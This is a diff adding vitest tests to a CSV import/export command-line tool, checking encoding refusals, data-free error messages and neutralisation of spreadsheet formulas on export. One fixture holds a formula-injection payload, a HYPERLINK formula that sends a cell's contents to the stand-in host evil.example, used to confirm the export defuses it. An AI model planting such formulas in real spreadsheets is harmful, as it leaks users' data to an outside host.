@@ -4,7 +4,7 @@ import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openDatabase } from '@trellis/server';
 import { sql } from 'drizzle-orm';
-import { runCommand } from './run.js';
+import { describeFailure, runCommand } from './run.js';
 
 /** Runs a command in-process with captured output and an embedded database in a temporary folder. */
 function makeRunner(dataDir: string) {
@@ -110,6 +110,109 @@ describe('trellis', () => {
     const missing = await trellis('import', 'people', join(folder, 'missing.csv'));
     expect(missing.code).toBe(1);
     expect(missing.stderr).toContain('ENOENT');
+  });
+
+  /** Runs SQL on the command's database between commands (the CLI holds it only while it runs). */
+  async function withDatabase<T>(work: (db: Awaited<ReturnType<typeof openDatabase>>['db']) => Promise<T>): Promise<T> {
+    const connection = await openDatabase({ dataDir: join(folder, 'data') });
+    try {
+      return await work(connection.db);
+    } finally {
+      await connection.close();
+    }
+  }
+  const countMarked = () =>
+    withDatabase(async (db) => {
+      const result = (await db.execute(sql`select count(*)::int as count from people where display_name ilike '%marker%'`)) as unknown as { rows: { count: number }[] };
+      return result.rows[0]!.count;
+    });
+  const PEOPLE = 'display_name,email,expertise\nMarkerAlba Muñoz,marker.alba@example.org,reading\nMarkerBruno Peña,marker.bruno@example.org,maths\n';
+
+  it('refuses a Latin-1 file, naming its encoding, the line and how to re-save it, and writes nothing', async () => {
+    const file = join(folder, 'latin1.csv');
+    await writeFile(file, Buffer.from(PEOPLE, 'latin1'));
+    const refused = await trellis('import', 'people', file);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain('was not imported; nothing was written');
+    expect(refused.stderr).toMatch(/row 2: The file is not UTF-8 text: this line has the byte 0xF1.*Windows-1252 or ISO-8859-1 \(Latin-1\)/);
+    expect(refused.stderr).toContain('"CSV UTF-8 (Comma delimited)"');
+    expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker/i);
+    expect(await countMarked()).toBe(0);
+  });
+
+  it('refuses UTF-16 with a byte-order mark or without, naming it, instead of reading "d i s p l a y"', async () => {
+    const withBom = join(folder, 'utf16-bom.csv');
+    const withoutBom = join(folder, 'utf16.csv');
+    await writeFile(withBom, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(PEOPLE, 'utf16le')]));
+    await writeFile(withoutBom, Buffer.from(PEOPLE, 'utf16le'));
+    for (const file of [withBom, withoutBom]) {
+      const refused = await trellis('import', 'people', file);
+      expect(refused.code).toBe(1);
+      expect(refused.stderr).toContain('UTF-16 (little-endian)');
+      expect(refused.stderr).not.toContain('Unknown column');
+      expect(refused.stderr).not.toMatch(/marker/i);
+    }
+    expect(await countMarked()).toBe(0);
+  });
+
+  it('imports UTF-8 with a byte-order mark, as Excel\'s "CSV UTF-8" writes it', async () => {
+    const file = join(folder, 'utf8-bom.csv');
+    await writeFile(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(PEOPLE.replaceAll('Marker', 'Bom'))]));
+    const imported = await trellis('import', 'people', file);
+    expect(imported).toMatchObject({ code: 0, stderr: '' });
+    expect(imported.stdout).toContain('2 created');
+  });
+
+  it('refuses a NUL byte by row and column without printing anyone\'s name or email', async () => {
+    const file = join(folder, 'nul.csv');
+    await writeFile(file, `${PEOPLE}MarkerCarla Paz,marker.carla@example.org,art\0s\n`);
+    const refused = await trellis('import', 'people', file);
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain('row 4, column "expertise": This cell holds a NUL character');
+    expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker/i);
+    expect(await countMarked()).toBe(0);
+  });
+
+  it('prints a database failure without the statement or its parameters, and writes nothing', async () => {
+    await withDatabase((db) => db.execute(sql`alter table people add constraint cli_test_refuses check (display_name not like 'MarkerBruno%')`));
+    try {
+      const file = join(folder, 'refused.csv');
+      await writeFile(file, PEOPLE);
+      const refused = await trellis('import', 'people', file);
+      expect(refused.code).toBe(1);
+      expect(refused.stderr).toContain('nothing was written');
+      expect(refused.stderr).toContain('PostgreSQL error 23514 (a value breaks a check constraint: table "people", constraint "cli_test_refuses")');
+      expect(`${refused.stdout}${refused.stderr}`).not.toMatch(/marker|insert into/i);
+      expect(await countMarked()).toBe(0);
+    } finally {
+      await withDatabase((db) => db.execute(sql`alter table people drop constraint cli_test_refuses`));
+    }
+  });
+
+  it('describes any failure without the data in it, and never as [object Object]', async () => {
+    const failed = await withDatabase((db) => db.execute(sql`select ${'MarkerSecret'}::uuid`).then(() => null, (error: unknown) => error));
+    // Drizzle's own message lists the parameter, and PostgreSQL's quotes it.
+    expect(String(failed)).toContain('MarkerSecret');
+    expect(describeFailure(failed)).toBe('the database refused a statement: PostgreSQL error 22P02 (a value of the wrong type).');
+    expect(describeFailure({ code: 'ELOOP', errno: -40 })).toBe('failed with ELOOP');
+    expect(describeFailure({})).toBe('failed unexpectedly');
+    expect(describeFailure(new Error('TRELLIS_PUBLIC_URL must be a URL'))).toBe('TRELLIS_PUBLIC_URL must be a URL');
+  });
+
+  it('exports names that are spreadsheet formulas as text, quoted and with a quote in front', async () => {
+    const people = join(folder, 'formula-people.csv');
+    await writeFile(people, 'display_name,email\n"=HYPERLINK(""http://evil.example/?""&A1,""Ver"")",formula1@example.org\n@SUM(1),formula2@example.org\n');
+    const ties = join(folder, 'formula-ties.csv');
+    await writeFile(ties, 'network,from_email,to_email,relation\nred-export,formula1@example.org,formula2@example.org,advice\n');
+    expect((await trellis('import', 'people', people)).code).toBe(0);
+    expect((await trellis('import', 'ties', ties)).code).toBe(0);
+    const out = join(folder, 'formula-nodes.csv');
+    expect((await trellis('export', 'network', 'red-export', '--format', 'csv', '--table', 'nodes', '--out', out)).code).toBe(0);
+    const text = await readFile(out, 'utf8');
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`);
+    expect(text).toContain(`"'@SUM(1)"`);
+    // No cell, quoted or not, starts with a formula character (the measures, which may be negative, are not computed here).
+    expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
   });
 
   it('refuses to overwrite data with the demo region unless forced', async () => {
